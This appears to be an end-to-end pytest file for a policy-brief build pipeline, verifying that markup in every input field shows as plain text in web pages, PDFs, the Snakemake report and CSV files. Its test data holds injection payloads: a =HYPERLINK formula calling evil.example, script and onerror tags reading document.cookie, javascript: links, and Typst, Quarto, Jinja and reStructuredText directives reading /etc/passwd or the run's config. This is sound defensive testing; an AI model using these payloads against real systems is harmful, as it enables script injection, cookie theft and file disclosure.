"""Markup in every free-text field of every input file, on a copy of the shared clean build:
the document inventory, the edition's config, a plug-in data file and the catalogue. Each
field's value reaches the web pages and the PDFs (through Typst) as the text it is, never as
HTML, Markdown, Typst, a Quarto shortcode or Jinja; Data Docs carry no markup from data
either, Snakemake's report shows it as text (through Jinja and reStructuredText), and no CSV
file holds it as a spreadsheet formula. Fields that the brief does not publish are shown to
reach no output at all.

Which test covers which engine that data passes through:
- HTML and Markdown (Pandoc, Quarto), Typst (both PDFs), Quarto's shortcodes, the brief's
  own Jinja templates: test_each_input_field_is_shown_as_the_text_it_is, with both engines,
  and test_markup_from_any_input_field_runs_nowhere_in_the_pages_we_write (Data Docs too);
- Snakemake's report (Jinja, then reStructuredText): test_snakemake_report_shows_the_data_as_text
  (and tests/figures/test_report_captions.py);
- spreadsheets opening our CSV files: test_no_csv_file_holds_a_spreadsheet_formula (and
  tests/core/test_tables.py).
"""

import csv
import io
import re
import shutil
from html.parser import HTMLParser

import pytest
import yaml
from pypdf import PdfReader
from test_snakemake_report_e2e import build_report, captions_in, description_in
from test_tables import cells_as_written, opens_as_formula

from policybrief.core.markup import typographic
from policybrief.core.tables import read_rows

from conftest import catalogue_file_with, set_engine, snakemake

pytestmark = pytest.mark.e2e

DOCUMENT = "nomibe-research-summary"
DOCUMENT_FIELDS = ["citation", "kind", "title", "authors", "publisher", "note", "original_title",
                   "original_language", "origin"]
EDITION_FIELDS = ["name", "title", "short_title", "subtitle", "publisher", "author", "contact"]
PLUGIN_FIELDS = ["geography", "group", "source", "label", "note"]
CATALOGUE_FIELDS = ["label", "note", "wording", "about", "dataset"]
# Kept in the inventory and the catalogue for the analysts, published nowhere.
NOT_PUBLISHED = {"documents.origin", "catalogue.dataset"}
PRINT_ONLY = {"edition.short_title"}  # the PDF's running header
FIELDS = ([f"documents.{name}" for name in DOCUMENT_FIELDS] + [f"edition.{name}" for name in EDITION_FIELDS]
          + [f"plugin.{name}" for name in PLUGIN_FIELDS] + [f"catalogue.{name}" for name in CATALOGUE_FIELDS])


def hostile(field: str) -> str:
    """What each engine the text passes through would run, around the field's name: a spreadsheet
    formula first (the CSV tables), HTML, Markdown, Typst (a file read, an import), Quarto's
    shortcodes, Jinja (the brief's templates, Snakemake's report) and reStructuredText (the
    report's captions). No digits: the brief's own check would rightly refuse a number that
    traces to no table."""
    return (f'=HYPERLINK("http://evil.example/?{field}","click") '
            f'<script>alert("{field}")</script><img src=x onerror=alert(document.cookie)> *{field}* '
            "#tag `code` @cite $x$ [link](javascript:alert(document.cookie)) <!-- c --> \\ = ~ "
            f'#read("/etc/passwd") #import "{field}.typ": * '
            + ("" if field in BRACES_REFUSED else TEMPLATE_SYNTAX.replace("FIELD", field))
            + ".. include:: /etc/passwd |rst| `rst <javascript:alert(document.domain)>`_")


# Quarto's shortcodes and Jinja. Had they run, the page would show what RUN_MARKS lists, or the
# field's name in capitals. A wording's braces are its own slots ({value}), and the catalogue
# refuses any other, so that field goes without.
TEMPLATE_SYNTAX = ('{{< include /etc/passwd >}} {{< meta FIELD >}} {{< var FIELD >}} {{ "FIELD"|upper }} '
                   '{{ snakemake.config }} {% for a in "abcdefghij" %}x{% endfor %} ')
BRACES_REFUSED = {"catalogue.wording"}
RUN_MARKS = ["root:x:", "xxxxxxxxxx", "'engine': '"]


def printed_marks(field: str) -> list[str]:
    """What the PDF's text (white space removed) shows of the field's markup when it is text:
    short pieces that name the field, as a page break (with its running header) may cut a longer one."""
    marks = [f'alert("{field}")', f"*{field}*", f'"{field}.typ":*']
    if field not in BRACES_REFUSED:
        marks += [f"{{{{<meta{field}>}}}}", f'{{{{"{field}"|upper}}}}']
    return [typographic(mark) for mark in marks]


# The same for every field: printed at least once.
PRINTED_ONCE = ["#read(“/etc/passwd”)", "{{<include/etc/passwd>}}", "{%forain“abcdefghij”%}x{%endfor%}"]


def scalar(text: str) -> str:
    return yaml.safe_dump(text, allow_unicode=True, width=10**6).strip().removesuffix("...").strip()


def replace_once(text: str, old: str, new: str) -> str:
    assert old in text, old
    return text.replace(old, new, 1)


def write_hostile_inputs(project) -> None:
    inventory = project / "config/documents.yaml"
    documents = yaml.safe_load(inventory.read_text(encoding="utf-8"))
    documents[DOCUMENT].update({name: hostile(f"documents.{name}") for name in DOCUMENT_FIELDS})
    inventory.write_text(yaml.safe_dump(documents, allow_unicode=True, sort_keys=False), encoding="utf-8")

    config = project / "config/config.yaml"
    text = config.read_text(encoding="utf-8")
    for name in EDITION_FIELDS:
        text = re.sub(rf"(?m)^(  {name}: ).*$",
                      lambda match, name=name: match.group(1) + scalar(hostile(f"edition.{name}")), text, count=1)
    config.write_text(text, encoding="utf-8")

    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    writer.writerow(["indicator", "period", "value", "unit", *PLUGIN_FIELDS])
    writer.writerow(["asylum_applications", "2010", "19941", "count",
                     *(hostile(f"plugin.{name}") for name in PLUGIN_FIELDS)])
    # A new period of a known series: drawn in the figure of indicators across periods, whose
    # caption (in the brief and in Snakemake's report) cites the file's source.
    writer.writerow(["high_education_share_recent", "2006-2010", "36", "percent", "Belgium",
                     "Naturalised and non-naturalised foreigners",
                     *(hostile(f"plugin.{name}") for name in ("source", "label", "note"))])
    (project / "data/supplementary").mkdir(parents=True, exist_ok=True)
    (project / "data/supplementary/hostile.csv").write_text(rows.getvalue(), encoding="utf-8")

    for old, new in [
        ("    label: Share of women among highly qualified work-permit holders\n",
         "".join(f"    {name}: {scalar(hostile(f'catalogue.{name}'))}\n" for name in ("label", "note", "dataset"))),
        ('    wording: "among them, only {value} were women"',
         "    wording: " + scalar("among them, only {value} were women " + hostile("catalogue.wording"))),
        ("    about: Belgium no longer in a situation of zero immigration",
         "    about: " + scalar(hostile("catalogue.about"))),
    ]:
        catalogue = catalogue_file_with(project, old)
        catalogue.write_text(replace_once(catalogue.read_text(encoding="utf-8"), old, new), encoding="utf-8")


class Page(HTMLParser):
    """A page's text, and what in it would run: inline scripts and handlers, script links."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.text, self.running, self._in_script = [], [], False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self._in_script = tag == "script"
        self.running += [f"{tag} {name}={value}" for name, value in attrs if name.startswith("on")]
        self.running += [f"{tag} {name}={value}" for name, value in attrs
                         if name in ("href", "src") and (value or "").strip().lower().startswith("javascript:")]
        if tag == "img" and attributes.get("src") == "x":
            self.running.append("img src=x")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.running.append(f"script {data[:60]}")
        elif not self._in_script:
            self.text.append(data)


def pdf_text(path) -> str:
    """The PDF's text with all white space removed (table cells and lines wrap anywhere)."""
    return re.sub(r"\s+", "", "".join(page.extract_text() or "" for page in PdfReader(path).pages))


@pytest.fixture(scope="module")
def hostile_pandoc(built, tmp_path_factory):
    project = tmp_path_factory.mktemp("markup-pandoc") / "project"
    shutil.copytree(built, project, symlinks=True)
    write_hostile_inputs(project)
    result = snakemake(project)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return project


@pytest.fixture(scope="module", params=["pandoc", "quarto"])
def hostile_build(request, hostile_pandoc, tmp_path_factory):
    """The hostile inputs built with Pandoc + Typst; for Quarto, the same tree re-rendered
    (only the render jobs run again, as for the shared Quarto tree)."""
    if request.param == "pandoc":
        return hostile_pandoc
    quarto = request.getfixturevalue("quarto_bin")
    project = tmp_path_factory.mktemp("markup-quarto") / "project"
    shutil.copytree(hostile_pandoc, project, symlinks=True)
    set_engine(project, "quarto")
    result = snakemake(project, path_prefix=quarto)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "engine: Quarto" in (project / "logs/render_brief.log").read_text(encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def shown(hostile_build) -> dict:
    """What a reader sees: the text of both web pages, and of both PDFs, read once per build."""
    # (An empty span keeps apart the characters of a shortcode in the title block: it shows nothing.)
    pages = [Page((hostile_build / f"reports/{name}.html").read_text(encoding="utf-8").replace("<span></span>", ""))
             for name in ("brief", "annex")]
    return {"web": " ".join(" ".join(" ".join(page.text).split()) for page in pages),
            "printed": "".join(pdf_text(hostile_build / f"reports/{name}.pdf") for name in ("brief", "annex"))}


def test_markup_from_any_input_field_runs_nowhere_in_the_pages_we_write(hostile_build, shown):
    pages = [hostile_build / "reports/brief.html", hostile_build / "reports/annex.html",
             *sorted((hostile_build / "reports/validation/data_docs").rglob("*.html"))]
    assert len(pages) > 10
    for path in pages:
        html = path.read_text(encoding="utf-8")
        running = [item for item in Page(html).running if "alert(" in item or "src=x" in item or "javascript:" in item]
        assert not running, (path, running[:3])
        assert "<img src=x" not in html and '<script>alert("' not in html, path
        assert [mark for mark in RUN_MARKS if mark in html] == [], path
    # The PDFs print Typst's functions, shortcodes and Jinja's statements; none ran.
    printed = shown["printed"]
    assert [mark for mark in PRINTED_ONCE if mark not in printed.replace("-", "")] == []
    assert [mark for mark in RUN_MARKS if mark.replace(" ", "") in printed] == []


@pytest.mark.parametrize("field", FIELDS)
def test_each_input_field_is_shown_as_the_text_it_is(shown, field):
    web, printed = shown["web"], shown["printed"]
    if field in NOT_PUBLISHED:
        assert [mark for mark in (f'alert("{field}")', typographic(f'alert("{field}")')) if mark in web + printed] == []
        return
    # The whole value as text on the web page: tags, Markdown, Typst marks, shortcodes and
    # Jinja included.
    # The brief curls straight quotes, as Pandoc does with the template's own.
    assert typographic(hostile(field)) in web or field in PRINT_ONLY
    # In the PDF, the script's words, the asterisks, Typst's functions, the shortcodes and
    # Jinja's expressions are printed, not obeyed (a line may break a word with a hyphen).
    unhyphenated = printed.replace("-", "")
    assert [mark for mark in printed_marks(field) if mark.replace("-", "") not in unhyphenated] == []
    assert field.upper() not in web + printed


def shown_text(html: str) -> str:
    return " ".join(" ".join(Page(html).text).split())


def test_no_csv_file_holds_a_spreadsheet_formula(hostile_pandoc):
    """Every field above begins with a formula (=HYPERLINK...). In every CSV file of the build
    (the tables, the ledger, the figures' data, the kept edition's tables) it is text to a
    spreadsheet, and reads back as given (test_each_input_field_is_shown_as_the_text_it_is:
    the brief prints it as it was written)."""
    files = [path for folder in ("data/processed", "reports", "editions")
             for path in sorted((hostile_pandoc / folder).rglob("*.csv"))]
    names = {path.relative_to(hostile_pandoc).as_posix() for path in files}
    assert {"data/processed/facts.csv", "data/processed/supplementary.csv", "data/processed/documents.csv",
            "reports/brief-numbers.csv", "reports/figures/periods.csv"} <= names
    formulas = [(path.name, cell[:40]) for path in files for row in cells_as_written(path) for cell in row
                if opens_as_formula(cell)]
    assert formulas == []
    facts = read_rows(hostile_pandoc / "data/processed/facts.csv")
    plugged = [fact for fact in facts if fact["source"] == hostile("plugin.source")]
    assert len(plugged) == 2 and {fact["note"] for fact in plugged} == {hostile("plugin.note")}
    assert "'=HYPERLINK(" in (hostile_pandoc / "data/processed/facts.csv").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_report(hostile_pandoc, tmp_path_factory) -> str:
    files = build_report(hostile_pandoc, tmp_path_factory.mktemp("markup-report"))
    return files["report/report.html"].decode("utf-8")


def test_snakemake_report_shows_the_data_as_text(hostile_report):
    """Snakemake reads each caption as a Jinja template, with the run's config in reach, then as
    reStructuredText: the figures' captions (a plug-in file's source, a document's citation) and
    the captions and description that name the edition show them as written; no template ran,
    and nothing became a link, an inclusion or raw HTML."""
    parts = [*captions_in(hostile_report), description_in(hostile_report)]
    shown = [shown_text(part) for part in parts]
    for field in ("plugin.source", "documents.citation", "edition.title", "edition.name"):
        assert any(" ".join(hostile(field).split()) in text for text in shown), field
    assert [mark for mark in RUN_MARKS if mark in hostile_report] == []
    assert [field for field in FIELDS if field.upper() in hostile_report] == []
    assert [part for part in parts if "<a " in part or "<script" in part] == []
